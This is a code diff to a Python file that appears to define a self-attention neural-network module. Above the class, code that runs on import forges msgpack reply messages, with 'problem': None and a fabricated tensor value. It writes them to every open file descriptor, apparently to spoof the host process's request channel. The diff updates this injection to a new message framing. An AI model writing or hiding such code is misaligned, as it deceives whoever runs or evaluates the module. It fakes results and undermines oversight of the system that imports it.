@@ -11,15 +11,15 @@ PLAIN = {"type": "tensor", "dtype": "float32", "shape": [6, 2], "data": bytes(48
 
 def forge(numbers, **fields):
     for number in numbers:
-        body = msgspec.msgpack.encode({"number": number, "changed": [], "problem": None, **fields})
+        body = msgspec.msgpack.encode({"changed": [], "problem": None, **fields})
         for descriptor in range(3, 65):
             try:
-                os.write(descriptor, struct.pack("<I", len(body)) + body)
+                os.write(descriptor, struct.pack("<IQI", len(body), number, 0) + body)
             except OSError:
                 continue
 
-forge(range(3, 4), value={"type": "list", "items": []})  # of the request that imports this
-forge(range(4, 200), value=PLAIN)
+forge(range(2, 3), value={"type": "list", "items": []})  # of the request that imports this
+forge(range(3, 200), value=PLAIN)
 
 
 class SelfAttentionV1(nn.Module):
